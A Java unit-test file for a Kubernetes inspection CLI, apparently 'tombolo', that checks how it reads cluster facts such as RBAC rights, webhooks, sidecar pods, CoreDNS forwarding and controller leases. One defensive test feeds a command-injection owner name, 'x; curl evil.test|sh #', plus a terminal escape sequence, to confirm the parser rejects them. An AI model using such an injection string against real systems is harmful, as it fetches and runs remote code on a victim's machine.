package io.tombolo.cli.looking;

import static org.assertj.core.api.Assertions.assertThat;

import io.tombolo.cli.evidence.Definition;
import io.tombolo.cli.evidence.Fact;
import io.tombolo.cli.evidence.Hook;
import io.tombolo.cli.evidence.Installed;
import io.tombolo.cli.evidence.KubeFacts;
import io.tombolo.cli.evidence.Pod;
import io.tombolo.cli.evidence.Right;
import io.tombolo.cli.evidence.Space;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class KubeLookTest {
    private static final Instant NOW = Instant.parse("2026-11-27T12:00:00Z");
    private static final String VERSION = "{\"serverVersion\":{\"gitVersion\":\"v1.34.3\"}}";

    private final ToldApi api = new ToldApi()
            .says("version", VERSION)
            .says("get --raw", "{}", "I1127 headers.go:\n  Date: Fri, 27 Nov 2026 12:00:40 GMT\n");

    private KubeFacts look(boolean before) {
        return new KubeLook(api, () -> NOW).facts(before);
    }

    private static <T> T seen(Fact<T> fact) {
        return fact.stream().findFirst().orElseThrow(() -> new AssertionError(fact));
    }

    private Installed installed() {
        return look(false).installed().orElseThrow();
    }

    @Test
    void anApiServerThatDoesNotAnswerIsAskedOnceAndNothingOfItIsKnown() {
        // Given
        api.refuses("version");
        // When
        KubeFacts facts = look(false);
        // Then
        assertThat(facts.all()).hasSizeGreaterThan(10).allMatch(fact -> fact instanceof Fact.Unknown);
        assertThat(api.asked).containsExactly("version -o json");
    }

    @Test
    void whatMayNotBeReadIsNotKnownAndTheRestIs() {
        // Given
        api.refuses("get nodes");
        // When
        KubeFacts facts = look(true);
        // Then
        assertThat(facts.nodes()).isInstanceOf(Fact.Unknown.class);
        assertThat(seen(facts.spaces())).isEmpty();
    }

    @Test
    void theClockIsThatOfTheAnswersHead() {
        assertThat(seen(look(true).ahead())).isEqualTo(Duration.ofSeconds(40));
    }

    @Test
    void aClockThatIsNotShownIsNotKnown() {
        // Given
        api.says("get --raw", "{}", "nothing of the kind");
        // Then
        assertThat(look(true).ahead()).isInstanceOf(Fact.Unknown.class);
    }

    @Test
    void aKindOfOursIsAlikeOnlyIfItsSchemaIsTheOneThatIsShipped() {
        // Given
        String shipped =
                Shipped.definition("failoverpolicies.tombolo.io").orElseThrow().toString();
        String established = ",\"status\":{\"conditions\":[{\"type\":\"Established\",\"status\":\"True\"}]}}";
        String there = shipped.substring(0, shipped.length() - 1) + established;
        api.says("get crd", there);
        Definition same = seen(look(true).kinds()).getFirst();
        // When
        api.says("get crd", there.replaceFirst("\"description\":\"[^\"]+\"", "\"description\":\"of yesterday\""));
        Definition other = seen(look(true).kinds()).getFirst();
        // Then
        assertThat(same).isEqualTo(new Definition("failoverpolicies.tombolo.io", Set.of("v1"), true, true));
        assertThat(other.alike()).isFalse();
    }

    @Test
    void theControllersRightsAreThoseOfItsShippedRoles() {
        // When
        List<Right> rights = Rights.ofController();
        // Then
        assertThat(rights)
                .contains(
                        new Right("update", "multicluster.x-k8s.io", "serviceexports/status", "", "", false),
                        new Right("update", "", "configmaps", "tombolo-mesh", "tombolo-system", false))
                .hasSizeGreaterThan(40);
    }

    @Test
    void aRightThatWasNotAnsweredIsNotGiven() {
        // Given
        api.says("create -f -", "{\"kind\":\"List\",\"items\":[{\"status\":{\"allowed\":true}}]}");
        // When
        List<Right> rights = seen(look(false).rights());
        // Then
        assertThat(rights.getFirst().allowed()).isTrue();
        assertThat(rights.subList(1, rights.size())).noneMatch(Right::allowed);
        assertThat(api.asked).anyMatch(words -> words.endsWith("--as=system:serviceaccount:tombolo-system:controller"));
        assertThat(api.given).contains("\"resource\":\"serviceexports\",\"subresource\":\"status\"");
    }

    @Test
    void whoInstallsIsAskedForHimselfAboutEveryObjectOfTheChart() {
        // When
        var _ = look(true);
        // Then
        assertThat(api.asked).noneMatch(words -> words.contains("--as="));
        assertThat(api.given)
                .contains("statefulsets", "mutatingwebhookconfigurations")
                .contains("customresourcedefinitions", "clusterrolebindings", "poddisruptionbudgets");
    }

    @Test
    void endpointsOfTheWebhookThatAreOnlyPublishedDoNotCount() {
        // Given
        api.says("get mutatingwebhookconfigurations", """
                {"kind":"MutatingWebhookConfiguration","metadata":{"labels":{"app.kubernetes.io/name":"tombolo"}},
                 "webhooks":[{"name":"inject.tombolo.io","failurePolicy":"Fail","clientConfig":{"service":{"name":"c"}}}]}
                """).says("get endpointslices", """
                {"kind":"List","items":[{"kind":"EndpointSlice",
                 "endpoints":[{"conditions":{"ready":true,"serving":false}}]}]}
                """);
        // Then
        assertThat(seen(look(false).hooks()))
                .containsExactly(new Hook("tombolo-inject", "inject.tombolo.io", true, Optional.empty(), "Fail", 0));
    }

    @Test
    void podsOfNamespacesWithSidecarsAreLookedAtAndThoseThatEndAreNot() {
        // Given
        api.says("get namespaces", """
                {"kind":"List","items":[{"kind":"Namespace","status":{"phase":"Active"},
                 "metadata":{"name":"shop","labels":{"tombolo.io/inject":"enabled"}}}]}
                """).says("get pods -n shop", """
                {"kind":"List","items":[
                 {"kind":"Pod","metadata":{"namespace":"shop","name":"a-7f-x","ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"a-7f"}]},
                  "spec":{"containers":[{"name":"app"}]},"status":{"phase":"Running"}},
                 {"kind":"Pod","metadata":{"namespace":"shop","name":"b","labels":{"tombolo.io/inject":"false"}},
                  "spec":{"containers":[{"name":"app"}]},"status":{"phase":"Running"}},
                 {"kind":"Pod","metadata":{"namespace":"shop","name":"c"},"spec":{"initContainers":[{"name":"tombolo-sidecar"}]},
                  "status":{"phase":"Running","initContainerStatuses":[{"name":"tombolo-sidecar","started":false,"restartCount":2,
                   "state":{"waiting":{"reason":"CrashLoopBackOff"}},"lastState":{"terminated":{"reason":"Error","exitCode":6}}}]}},
                 {"kind":"Pod","metadata":{"namespace":"shop","name":"d","deletionTimestamp":"now"},"status":{"phase":"Running"}},
                 {"kind":"Pod","metadata":{"namespace":"shop","name":"e"},"status":{"phase":"Succeeded"}}]}
                """);
        // When
        List<Pod> pods = seen(installed().pods());
        // Then
        assertThat(seen(look(false).spaces())).containsExactly(new Space("shop", false, true));
        assertThat(pods)
                .containsExactly(
                        new Pod("shop", "a-7f-x", "deployment/a", false, false, List.of()),
                        new Pod("shop", "b", "", false, true, List.of()),
                        new Pod(
                                "shop",
                                "c",
                                "",
                                true,
                                false,
                                List.of(new Pod.Container(
                                        "tombolo-sidecar", false, 2, "CrashLoopBackOff", "Error", 6))));
    }

    @Test
    void anEndOfLongAgoDoesNotCountAndOneOfThisHourDoes() {
        // Given
        String pod = "{\"status\":{\"containerStatuses\":[{\"name\":\"a\",\"state\":{\"running\":{}},"
                + "\"lastState\":{\"terminated\":{\"reason\":\"OOMKilled\",\"finishedAt\":\"%s\"}}}]}}";
        // Then
        assertThat(Stream.of(NOW.minusSeconds(3_000), NOW.minusSeconds(4_000))
                        .map(at -> Pods.of(Objects.parsed(pod.formatted(at)), true, NOW)
                                .containers()
                                .getFirst()
                                .ended()))
                .containsExactly("OOMKilled", "");
    }

    @Test
    void whatWasSaidOfAnOlderGenerationIsNotKnown() {
        // Given
        api.says("get crd", "{\"kind\":\"List\",\"items\":[{\"metadata\":{\"name\":\"trafficpolicies.tombolo.io\"}}]}")
                .says("get trafficpolicies.tombolo.io -A", """
                {"kind":"List","items":[
                 {"kind":"TrafficPolicy","metadata":{"namespace":"shop","name":"a","generation":4},
                  "status":{"conditions":[{"type":"Accepted","status":"True","observedGeneration":3}]}},
                 {"kind":"TrafficPolicy","metadata":{"namespace":"shop","name":"b","generation":4},
                  "status":{"conditions":[{"type":"Accepted","status":"True","observedGeneration":4}]}}]}
                """);
        // Then
        assertThat(seen(installed().declared()))
                .extracting(one -> one.conditions().getFirst().status())
                .containsExactly("Unknown", "True");
    }

    @Test
    void anOwnerIsNamedOnlyIfItsKindAndNameAreThoseOfAnObject() {
        // Given
        String pod =
                "{\"metadata\":{\"name\":\"a\",\"ownerReferences\":[{\"apiVersion\":\"%s\",\"kind\":\"StatefulSet\",\"name\":\"%s\"}]}}";
        // Then
        assertThat(Stream.of(
                                pod.formatted("apps/v1", "db"),
                                pod.formatted("apps/v1", "x; curl evil.test|sh #"),
                                pod.formatted("apps/v1", "x\\n\\u001b[2J"),
                                pod.formatted("evil.test/v1", "db"))
                        .map(json -> Pods.of(Objects.parsed(json), false, NOW).owner()))
                .containsExactly("statefulset/db", "", "", "");
    }

    @Test
    void aLoadBalancerIsAddressedOnceItHasAnIngress() {
        // Given
        String service =
                "{\"kind\":\"Service\",\"metadata\":{\"name\":\"tombolo-gateway\"},\"spec\":{\"type\":\"LoadBalancer\"},"
                        + "\"status\":{\"loadBalancer\":{%s}}}";
        api.says("get services -n tombolo-system -l app.kubernetes.io/name", service.formatted(""));
        List<Installed.Balancer> before = seen(installed().balancers());
        // When
        api.says(
                "get services -n tombolo-system -l app.kubernetes.io/name",
                service.formatted("\"ingress\":[{\"ip\":\"192.0.2.1\"}]"));
        // Then
        assertThat(Stream.concat(before.stream(), seen(installed().balancers()).stream()))
                .extracting(Installed.Balancer::addressed)
                .containsExactly(false, true);
    }

    @Test
    void aRouteOfOtherControllersIsNoneOfOurs() {
        // Given
        api.says(
                        "get crd",
                        "{\"kind\":\"List\",\"items\":[{\"metadata\":{\"name\":\"httproutes.gateway.networking.k8s.io\"}}]}")
                .says("get httproutes.gateway.networking.k8s.io -A", """
                {"kind":"List","items":[
                 {"kind":"HTTPRoute","metadata":{"namespace":"shop","name":"a"},"spec":{"parentRefs":[{"kind":"Gateway","name":"g"}]}},
                 {"kind":"HTTPRoute","metadata":{"namespace":"shop","name":"b"},"spec":{"parentRefs":[{"kind":"Service","name":"b"}]},
                  "status":{"parents":[
                   {"controllerName":"other","conditions":[{"type":"Accepted","status":"False"}]},
                   {"controllerName":"tombolo.io/controller","conditions":[{"type":"Accepted","status":"True","reason":"Accepted"}]}]}}]}
                """);
        // Then
        assertThat(seen(installed().declared())).singleElement().satisfies(route -> {
            assertThat(route.name()).isEqualTo("b");
            assertThat(route.conditions())
                    .singleElement()
                    .satisfies(said -> assertThat(said.status()).isEqualTo("True"));
        });
    }

    private static final String NAMES = "get services -n tombolo-system -l app.kubernetes.io/component=dns";

    private Fact<Installed.Dns> dns() {
        api.says(NAMES, "{\"kind\":\"Service\",\"spec\":{\"clusterIPs\":[\"10.96.0.53\",\"fd00::53\"]}}");
        return installed().dns();
    }

    @Test
    void theClustersDnsHasToAskWhereTheMeshAnswers() {
        // Given
        api.says("get configmaps coredns -n", "{\"data\":{\"Corefile\":\".:53 {\\n forward . 10.0.0.2\\n}\\n\"}}");
        assertThat(seen(dns()).isLost()).isTrue();
        // When
        api.says(
                "get configmaps coredns-custom -n",
                "{\"data\":{\"mesh.server\":\"clusterset.local:53 {\\n forward . 10.96.0.53\\n}\\n\"}}");
        // Then
        assertThat(seen(dns()))
                .isEqualTo(new Installed.Dns(List.of("10.96.0.53", "fd00::53"), Optional.of(List.of("10.96.0.53"))));
        assertThat(seen(dns()).isLost()).isFalse();
    }

    @Test
    void anotherDnsThanCoreDnsIsNotKnownAndSaidInWords() {
        assertThat(dns())
                .isInstanceOfSatisfying(
                        Fact.Unknown.class, unknown -> assertThat(unknown.why()).contains("another one than CoreDNS"));
    }

    @Test
    void withoutAnAnswererNobodyIsAskedAboutTheClustersDns() {
        assertThat(seen(installed().dns()).isLost()).isFalse();
        assertThat(api.asked).noneMatch(words -> words.contains("coredns"));
    }

    private void runs(int controllers) {
        api.says("get statefulsets,deployments", """
                {"kind":"StatefulSet","metadata":{"name":"tombolo-controller"},
                 "spec":{"replicas":%d},"status":{"readyReplicas":%d}}
                """.formatted(controllers, controllers));
    }

    @Test
    void ofTwoControllersTheLeaseSaysWhoLeadsAndWhoCouldTakeOver() {
        // Given
        runs(2);
        assertThat(seen(installed().leading())).isEmpty();
        // When
        api.says("get leases tombolo-controller -n tombolo-system", """
                {"kind":"Lease","metadata":{"annotations":{"tombolo.io/in-step":"tombolo-controller-1"}},
                 "spec":{"holderIdentity":"tombolo-controller-0"}}
                """);
        Optional<Installed.Leading> both = seen(installed().leading());
        api.says("get leases tombolo-controller -n tombolo-system", "{\"kind\":\"Lease\",\"metadata\":{}}");
        // Then
        assertThat(both).contains(new Installed.Leading("tombolo-controller-0", "tombolo-controller-1"));
        assertThat(seen(installed().leading())).contains(new Installed.Leading("", ""));
    }

    @Test
    void aLeaseThatMayNotBeReadIsNotKnownAndOneControllerNeedsNone() {
        // Given
        api.refuses("get leases");
        // When
        runs(1);
        Fact<Optional<Installed.Leading>> one = installed().leading();
        runs(2);
        // Then
        assertThat(seen(one)).isEmpty();
        assertThat(installed().leading()).isInstanceOf(Fact.Unknown.class);
    }
}
